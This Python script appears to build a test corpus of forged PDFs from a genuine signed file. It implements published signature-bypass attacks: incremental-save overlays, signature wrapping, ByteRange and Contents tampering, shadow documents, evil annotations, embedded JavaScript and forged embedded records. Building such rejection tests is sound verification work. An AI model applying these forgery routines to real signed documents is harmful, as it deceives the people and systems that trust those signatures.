#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""attacks.py SIGNED.pdf RECORD.jws.json OTHER.jws.json DIR

Attacks on a signed PDF, each a file DIR/NAME.pdf; the names begin with the
family.  RECORD is the one inside; OTHER another genuine one.  The files keep
what a PDF reader goes by (tables, trailers, offsets) in order wherever the
attack does not live of breaking it.  Families and names as in the literature:
Mladenov et al. 2019 (usf, isa, swa), Rohlmann et al. 2021 (shadow, eaa, ssa).
"""
import os
import re
import sys

signed, record, other = (open(name, 'rb').read() for name in sys.argv[1:4])
other = other.strip()
where = sys.argv[4]
os.makedirs(where, exist_ok=True)
made = 0


def write(name, data):
    global made
    assert data != signed, name
    made += 1
    with open(os.path.join(where, name + '.pdf'), 'wb') as f:
        f.write(data)


# What is where in the file.
size = max(int(m) for m in re.findall(rb'trailer\n<< /Size (\d+)', signed))
last_table = int(re.findall(rb'startxref\n(\d+)\n', signed)[-1])
root = int(re.search(rb'/Root (\d+) 0 R', signed).group(1))
ident = re.search(rb'/ID (\[<[0-9a-f]+> <[0-9a-f]+>\])', signed).group(1)
info = re.search(rb'/Info (\d+) 0 R', signed).group(1)


def newest(number):
    """The newest form of an object, from its dictionary on."""
    at = [m.end() for m in re.finditer(rb'(?:^|\n)%d 0 obj\n' % number,
                                       signed)][-1]
    return signed[at:signed.index(b'\nendobj', at)]


catalog = newest(root)
page = int(re.search(rb'/Kids \[ ?(\d+) 0 R', newest(int(re.search(
    rb'/Pages (\d+) 0 R', catalog).group(1)))).group(1))
pages = int(re.search(rb'/Pages (\d+) 0 R', catalog).group(1))
content = int(re.search(rb'/Contents (\d+) 0 R', newest(page)).group(1))
fields = [int(n) for n in re.findall(rb'(\d+) 0 R', re.search(
    rb'/Fields \[([^]]*)\]', catalog).group(1))]
signature = size - 1  # the last object: the signature of the last body
font_file = int(re.search(rb'/FontFile\d (\d+) 0 R', signed).group(1))
to_unicode = int(re.search(rb'/ToUnicode (\d+) 0 R', signed).group(1))


def without(dictionary, *keys):
    for key in keys:
        dictionary = re.sub(rb'\n/' + key + rb'[^\n]*', b'', dictionary)
    return dictionary


def with_entries(dictionary, entries):
    assert dictionary.endswith(b'>>')
    return dictionary[:-2] + entries + b'\n>>'


def stream(data, entries=b''):
    return (b'<< %s/Length %d >>\nstream\n' % (entries, len(data)) + data +
            b'\nendstream')


def update(objects, base=None, table='right', free=()):
    """The file with a revision more: objects by number."""
    base = signed if base is None else base
    out = bytearray(base)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b'%d 0 obj\n' % number + objects[number] + b'\nendobj\n'
    if table == 'none':
        return bytes(out)
    start = len(out)
    out += b'xref\n'
    for number in sorted(set(objects) | set(free)):
        at = offsets.get(number)
        if table == 'wrong':
            at = at and at + 7
        out += b'%d 1\n' % number
        out += (b'0000000000 00001 f \n' if at is None
                else b'%010d 00000 n \n' % at)
    out += (b'trailer\n<< /Size %d /Root %d 0 R /Info %s 0 R /Prev %d '
            b'/ID %s >>\nstartxref\n%d\n%%%%EOF\n' % (
                max([size] + [n + 1 for n in objects]), root, info,
                last_table, ident, start))
    return bytes(out)


FAKE = (b'BT /F1 30 Tf 60 400 Td (Fictional Forger Ltd., 12 stars) Tj ET\n')
FONT = b'/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>'
fake_page = re.sub(rb'/Contents \d+ 0 R', b'/Contents %d 0 R' % size,
                   re.sub(rb'/Resources \d+ 0 R',
                          b'/Resources << ' + FONT + b' >>', newest(page)))

# Incremental saving: something else is shown, the signed bytes are all there.
write('isa-content', update({content: stream(FAKE)}))
write('isa-page', update({page: fake_page, size: stream(FAKE)}))
write('isa-without-table', update({content: stream(FAKE)}, table='none'))
write('isa-wrong-table', update({content: stream(FAKE)}, table='wrong'))
write('isa-with-signature', update({
    content: stream(FAKE), signature: newest(signature)}))
write('isa-with-new-signature', update({
    content: stream(FAKE), size: newest(signature), fields[-1]: re.sub(
        rb'/V \d+ 0 R', b'/V %d 0 R' % size, newest(fields[-1]))}))
write('isa-comment', signed + b'% nothing to see\n')
write('isa-newline', signed + b'\n')
write('isa-empty-update', update({}))
tail = signed[signed.rindex(b'xref\n', 0, signed.rindex(b'startxref')):]
write('isa-tail-again', signed + tail)
write('isa-extra-page', update({
    size: stream(FAKE), size + 1: re.sub(
        rb'/Annots \[[^]]*\]\n?', b'', fake_page),
    pages: re.sub(rb'/Count \d+', b'/Count 2', re.sub(
        rb'(/Kids \[ ?\d+ 0 R)', rb'\1 %d 0 R' % (size + 1),
        newest(pages)))}))

# Signature wrapping: the signed second part moves, something is in between.
at = [m.start() for m in re.finditer(rb'/ByteRange \[0 ', signed)][-1]
close = signed.index(b']', at)
numbers = [int(n) for n in signed[at + 12:close].split()]
width = close - at - 12


def ranged(text, data=signed):
    text = text.ljust(width)
    assert len(text) == width
    return data[:at + 12] + text + data[close:]


def ranges(*n):
    return ranged(b' '.join(b'%d' % v for v in n))


def moved(inside):
    """The second part at a later place; ByteRange follows it."""
    first, second = numbers[1], numbers[2]
    out = signed[:second] + inside + signed[second:]
    return (out[:at + 12] + (b'0 %d %d %d' % (
        first, second + len(inside), numbers[3])).ljust(width) + out[close:])


evil = b'\n>>\nendobj\n%d 0 obj\n' % content + stream(FAKE) + b'\nendobj\n'
write('swa-object-in-gap', moved(evil))
write('swa-spaces-in-gap', moved(b' ' * 64))
write('swa-table-in-gap', moved(evil + b'xref\n%d 1\n%010d 00000 n \n' % (
    content, numbers[2] + 12) + b'trailer\n<< /Size %d /Root %d 0 R /Prev %d '
    b'>>\nstartxref\n%d\n%%%%EOF\n' % (size, root, last_table,
                                       numbers[2] + len(evil))))
write('swa-longer-contents', moved(b'')[:numbers[2] - 1] + b'00' * 8 +
      signed[numbers[2] - 1:])

# Ranges that are not what was signed.
write('range-beyond-the-end', ranges(0, numbers[1], numbers[2],
                                     numbers[3] + 1))
write('range-huge', ranges(0, numbers[1], numbers[2], 999999999))
write('range-overlaps', ranges(0, numbers[2], numbers[1], numbers[3]))
write('range-not-from-0', ranges(1, numbers[1], numbers[2], numbers[3]))
write('range-a-byte-short', ranges(0, numbers[1], numbers[2],
                                   numbers[3] - 1))
write('range-gap-a-byte-wider', ranges(0, numbers[1] - 1, numbers[2],
                                       numbers[3]))
write('range-of-two-numbers', ranged(b'0 %d' % numbers[1]))
write('range-negative', ranged(b'0 -1 1 -1'))
write('range-of-the-first', ranged(signed[slice(*[
    (m.start() + 12, signed.index(b']', m.start())) for m in re.finditer(
        rb'/ByteRange \[', signed)][0])].strip()))

# Universal forgery: what the check needs is missing or empty.
first_digit = numbers[1] + 1
room = numbers[2] - 1 - first_digit


def in_place(old, new):
    place = signed.rindex(old)
    return signed[:place] + new + signed[place + len(old):]


def contents(text):
    return (signed[:numbers[1]] + text.ljust(room + 2) + signed[numbers[2]:])


write('usf-no-contents', in_place(b'/Contents <', b'/Content_ <'))
write('usf-contents-null', contents(b'null'))
write('usf-contents-empty', contents(b'<>'))
write('usf-contents-zero', contents(b'<00>'))
write('usf-contents-zeros', contents(b'<' + b'0' * room + b'>'))
write('usf-contents-no-hex', contents(b'(x)'))
write('usf-no-range', in_place(b'/ByteRange [', b'/ByteRang_ ['))
write('usf-range-null', signed[:at] + b'/ByteRange null'.ljust(
    close + 1 - at) + signed[close + 1:])
write('usf-range-empty', ranged(b''))
for name, key in (('contents', rb'/Contents <[^>]*>'),
                  ('range', rb'/ByteRange \[[^]]*\]'),
                  ('filter', rb'/SubFilter /[^\n]*')):
    write('usf-update-no-' + name, update({
        signature: re.sub(key, b'', newest(signature)),
        content: stream(FAKE)}))
write('usf-update-field-empty', update({
    fields[-1]: re.sub(rb'/V \d+ 0 R', b'/V null', newest(fields[-1]))}))
write('usf-update-no-fields', update({
    root: re.sub(rb'/AcroForm[^\n]*', b'', catalog)}))

# Shadow documents: hide, replace, hide and replace.
note = (b'<< /Type /Annot /Subtype /%s /Rect [60 300 500 700] /F 4 /AP << /N '
        b'%d 0 R >> %s>>')
look = stream(b'1 1 1 rg 0 0 440 400 re f 0 g ' + FAKE,
              b'/Type /XObject /Subtype /Form /BBox [0 0 440 400] /Resources '
              b'<< ' + FONT + b' >> ')


def annotated(subtype, more=b'', extra=None):
    objects = {size: look, size + 1: note % (subtype, size, more),
               page: re.sub(rb'/Annots \[', b'/Annots [%d 0 R ' % (size + 1),
                            newest(page))}
    objects.update(extra or {})
    return update(objects)


form = re.sub(rb'/Fields \[', b'/Fields [%d 0 R ' % (size + 1), catalog)
write('shadow-hide-content-freed', update({}, free=[content]))
write('shadow-hide-page-empty', update({
    page: re.sub(rb'/Contents \d+ 0 R', b'', newest(page))}))
write('shadow-replace-overlay', annotated(b'Stamp'))
write('shadow-replace-font', update({font_file: stream(b'no font')}))
write('shadow-replace-meaning', update({to_unicode: stream(
    b'1 beginbfrange <0000> <ffff> <0041> endbfrange')}))
write('shadow-replace-form', annotated(
    b'Widget', b'/FT /Tx /T (holder) /V (Fictional Forger) ', {root: form}))
write('shadow-hide-and-replace-table', update({}, free=[content, font_file]))
write('shadow-hide-and-replace-pages', update({
    root: re.sub(rb'/Pages \d+ 0 R', b'/Pages %d 0 R' % (size + 2), catalog),
    size: stream(FAKE), size + 1: re.sub(rb'/Parent \d+', b'/Parent %d' % (
        size + 2), fake_page),
    size + 2: b'<< /Type /Pages /Kids [%d 0 R] /Count 1 >>' % (size + 1)}))

# Certified documents: an evil annotation, a sneaky signature.
for subtype in b'FreeText', b'Stamp', b'Redact', b'Highlight':
    write('eaa-' + subtype.decode().lower(), annotated(
        subtype, b'/Contents (Fictional Forger Ltd.) '))
write('ssa-empty-field', annotated(b'Widget', b'/FT /Sig /T (third) ',
                                   {root: form}))
write('ssa-signed-field', annotated(
    b'Widget', b'/FT /Sig /T (third) /V %d 0 R ' % (size + 2),
    {root: form, size + 2: newest(signature)}))

# What a document may not have: layers, scripts, files.
write('part-layer', update({
    root: with_entries(catalog, b'/OCProperties << /OCGs [%d 0 R] /D << /OFF '
                       b'[%d 0 R] >> >>' % (size, size)),
    size: b'<< /Type /OCG /Name (shown) >>',
    content: stream(b'/OC /L BDC ' + FAKE + b' EMC')}))
write('part-script', update({
    root: with_entries(catalog, b'/OpenAction << /S /JavaScript /JS '
                       b'(app.alert\\(1\\)) >>')}))
write('part-script-by-name', update({
    root: re.sub(rb'/Names <<', b'/Names << /JavaScript << /Names [(a) << /S '
                 b'/JavaScript /JS (1) >>] >>', catalog)
    if b'/Names <<' in catalog else with_entries(
        catalog, b'/AA << /WC << /S /JavaScript /JS (1) >> >>')}))
spec = (b'<< /Type /Filespec /F (%s) /UF (%s) /EF << /F %d 0 R >> >>')


def with_file(name, data):
    return update({
        size: stream(data, b'/Type /EmbeddedFile '),
        size + 1: spec % (name, name, size),
        root: with_entries(without(catalog, b'AF'), b'/AF [%d 0 R]' % (
            size + 1))})


write('part-file', with_file(b'note.txt', b'a note'))
write('part-second-record', with_file(b'certificate.jws.json', other))
forged = bytearray(other)
forged[40] = forged[40] + 1 if forged[40] != 0x5a else 0x41
write('part-forged-record', with_file(b'certificate.jws.json',
                                      bytes(forged)))
write('part-archive', signed + b'PK\3\4 something packed')

# Changed in place: the record, the page, the fields, the end.
place = signed.index(record.strip()[:40])
write('change-record', signed[:place + 20] + bytes([signed[place + 20] ^ 1]) +
      signed[place + 21:])
write('change-content', signed[:signed.index(b'\n%d 0 obj' % content) + 90] +
      b'\0' + signed[signed.index(b'\n%d 0 obj' % content) + 91:])
write('change-title', in_place(b'/T (', b'/T_('))
write('change-header', b'%PDF-1.6' + signed[8:])
write('cut-a-byte', signed[:-1])
write('cut-half-a-signature', signed[:numbers[1] + 100])
print(made)
